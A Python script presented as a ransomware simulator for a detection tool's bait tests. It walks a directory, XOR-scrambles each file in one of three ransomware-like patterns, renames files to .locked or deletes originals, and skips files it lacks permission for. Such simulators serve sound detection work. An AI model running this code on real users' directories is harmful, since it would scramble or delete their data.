"""A ransomware simulator for detect's bait tests: `python ransomware.py MODE DIR`.

Walks DIR in sorted order (as many do) and, per file, as MODE says: "in-place" opens it
r+b, writes it back "encrypted" and renames it .locked; "rename-first" renames it, then
encrypts; "copy-unlink" writes FILE.locked and removes FILE. Prints each path before it
touches it; a file it may not touch (EPERM, EACCES) is skipped, as real ransomware does.
"""

import os
import sys


def encrypt(path: str, mode: str) -> None:
    if mode == "in-place":
        with open(path, "r+b") as f:
            data = f.read()
            f.seek(0)
            f.write(bytes(b ^ 0x5A for b in data))
        os.rename(path, path + ".locked")
    elif mode == "rename-first":
        os.rename(path, path + ".locked")
        with open(path + ".locked", "r+b") as f:
            data = f.read()
            f.seek(0)
            f.write(bytes(b ^ 0x5A for b in data))
    else:
        with open(path, "rb") as f:
            data = f.read()
        with open(path + ".locked", "wb") as f:
            f.write(bytes(b ^ 0x5A for b in data))
        os.unlink(path)


def main(mode: str, top: str) -> None:
    for root, dirs, files in os.walk(top):
        dirs.sort()
        for name in sorted(files):
            path = os.path.join(root, name)
            print(path, flush=True)
            try:
                encrypt(path, mode)
            except PermissionError:
                print("skipped", path, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
